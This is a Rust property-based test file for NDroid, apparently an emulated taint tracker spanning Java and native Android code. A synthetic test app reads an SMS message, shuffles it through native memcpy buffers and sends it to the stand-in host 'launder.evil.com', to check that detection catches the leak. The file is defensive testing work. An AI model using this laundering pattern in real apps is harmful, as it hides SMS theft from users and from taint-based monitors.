//! Property-based tests over the whole pipeline: taint soundness
//! invariants that must hold for arbitrary data and program shapes.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::{BinOp, DexInsn};
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;
use ndroid_testkit::prelude::*;

/// Builds an app whose native code memcpy-shuffles the secret through
/// `hops` intermediate buffers before sending it.
fn laundering_app(hops: u32) -> ndroid::apps::App {
    let mut b = AppBuilder::new("launder", "memcpy chain then send");
    let c = b.class("Lapp/L;");
    let mut buffers = Vec::new();
    for _ in 0..=hops {
        buffers.push(b.data_buffer(128));
    }
    let dest = b.data_cstr("launder.evil.com");

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    // strcpy into buffer 0, then memcpy hop by hop.
    b.asm.ldr_const(Reg::R0, buffers[0]);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("strcpy"));
    for w in buffers.windows(2) {
        b.asm.ldr_const(Reg::R0, w[1]);
        b.asm.ldr_const(Reg::R1, w[0]);
        b.asm.mov_imm(Reg::R2, 64).unwrap();
        b.asm.call_abs(libc_addr("memcpy"));
    }
    // socket/connect/send from the last buffer.
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.ldr_const(Reg::R1, *buffers.last().unwrap());
    b.asm.mov_imm(Reg::R2, 16).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "launder", "VL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/L;", "main").unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// No matter how many memcpy hops the secret takes through native
    /// memory, NDroid still flags the send — and TaintDroid still
    /// misses it.
    #[test]
    fn laundering_depth_never_defeats_ndroid(hops in 1u32..8) {
        let sys = laundering_app(hops).run(Mode::NDroid).unwrap();
        prop_assert_eq!(sys.leaks().len(), 1);
        prop_assert!(sys.leaks()[0].taint.contains(Taint::SMS));
        let sys = laundering_app(hops).run(Mode::TaintDroid).unwrap();
        prop_assert!(sys.leaks().is_empty());
    }

    /// Arbitrary Java arithmetic on a tainted value keeps the taint
    /// (explicit-flow soundness of the DVM rules).
    #[test]
    fn java_arithmetic_preserves_taint(ops in collection::vec(0u8..5, 1..20)) {
        use ndroid::dvm::framework::install_framework;
        use ndroid::dvm::{Dvm, Program, ClassDef};
        let mut p = Program::new();
        install_framework(&mut p);
        let c = p.add_class(ClassDef { name: "Lt/T;".into(), ..ClassDef::default() });
        let mut code = Vec::new();
        for op in &ops {
            let binop = [BinOp::Add, BinOp::Sub, BinOp::Mul, BinOp::Xor, BinOp::Or][*op as usize];
            code.push(DexInsn::BinOpLit { op: binop, dst: 0, a: 0, lit: 3 });
        }
        code.push(DexInsn::Return { src: 0 });
        let m = p.add_method(
            c,
            MethodDef::new("f", "II", MethodKind::Bytecode(code)).with_registers(1),
        );
        let mut dvm = Dvm::new(p);
        let (_, taint) = dvm
            .invoke_with(m, &[(12345, Taint::IMSI)], &mut ndroid::dvm::interp::NoNatives)
            .unwrap();
        prop_assert_eq!(taint, Taint::IMSI);
    }

    /// Clean data stays clean: no spurious taint is ever invented by
    /// the native pipeline (no false positives by construction).
    #[test]
    fn clean_inputs_produce_clean_sinks(len in 1usize..40) {
        use ndroid::dvm::framework::install_framework;
        use ndroid::dvm::Program;
        use ndroid::core::NDroidSystem;
        let mut p = Program::new();
        install_framework(&mut p);
        let mut sys = NDroidSystem::new(p, Mode::NDroid);
        // Clean guest data written straight to a socket via libc.
        let mut asm = ndroid::arm::Assembler::new(ndroid::emu::layout::NATIVE_CODE_BASE);
        asm.push(RegList::of(&[Reg::R4, Reg::LR]));
        asm.call_abs(libc_addr("socket"));
        asm.mov(Reg::R4, Reg::R0);
        asm.ldr_const(Reg::R1, 0x2000_0000);
        asm.call_abs(libc_addr("connect"));
        asm.mov(Reg::R0, Reg::R4);
        asm.ldr_const(Reg::R1, 0x2000_0100);
        asm.ldr_const(Reg::R2, len as u32);
        asm.mov_imm(Reg::R3, 0).unwrap();
        asm.call_abs(libc_addr("send"));
        asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
        let code = asm.assemble().unwrap();
        sys.load_native(&code, "libclean.so");
        sys.mem.write_cstr(0x2000_0000, b"clean.example.com");
        sys.mem.write_bytes(0x2000_0100, &vec![0x41; len]);
        sys.run_native(ndroid::emu::layout::NATIVE_CODE_BASE, &[]).unwrap();
        prop_assert_eq!(sys.shadow.prov.sinks().len(), 1);
        prop_assert!(sys.leaks().is_empty());
    }
}
